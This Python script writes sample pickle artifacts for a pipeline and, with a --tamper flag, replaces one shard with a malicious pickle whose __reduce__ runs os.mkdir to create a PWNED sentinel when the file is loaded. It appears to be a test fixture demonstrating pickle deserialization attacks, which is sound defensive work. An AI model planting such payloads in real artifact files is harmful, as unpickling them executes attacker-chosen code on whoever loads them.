"""Write the pipeline's artifacts (deterministic bytes), or tamper with one.

python make_artifacts.py ARTIFACTS            # write them
python make_artifacts.py ARTIFACTS --tamper   # replace shard1.pkl with a payload
"""

from __future__ import annotations

import os
import pickle
import sys
from pathlib import Path


class Payload:
    """What an attacker swaps in: loading it creates ARTIFACTS/PWNED."""

    def __init__(self, sentinel: str) -> None:
        self.sentinel = sentinel

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.mkdir, (self.sentinel,))


def main(artifacts: Path, tamper: bool) -> None:
    artifacts.mkdir(parents=True, exist_ok=True)
    if tamper:
        payload = pickle.dumps(Payload(str(artifacts.resolve() / "PWNED")))
        (artifacts / "shard1.pkl").write_bytes(payload)
        print(f"tampered: {artifacts / 'shard1.pkl'} now runs os.mkdir when loaded")
        return
    words = ["the", "model", "loads", "pickles", "safely"]
    (artifacts / "vocabulary.pkl").write_bytes(
        pickle.dumps({w: i for i, w in enumerate(words)}, protocol=4)
    )
    for i in range(3):
        shard = {"values": [float(i + j) for j in range(4)], "weight": 0.5 + i}
        (artifacts / f"shard{i}.pkl").write_bytes(pickle.dumps(shard, protocol=4))
    model = {"name": "ranker", "version": 14, "coefficients": [0.25, -1.5, 3.0]}
    (artifacts / "model.pkl").write_bytes(pickle.dumps(model, protocol=4))
    print(f"artifacts written to {artifacts}")


if __name__ == "__main__":
    main(Path(sys.argv[1]), "--tamper" in sys.argv[2:])
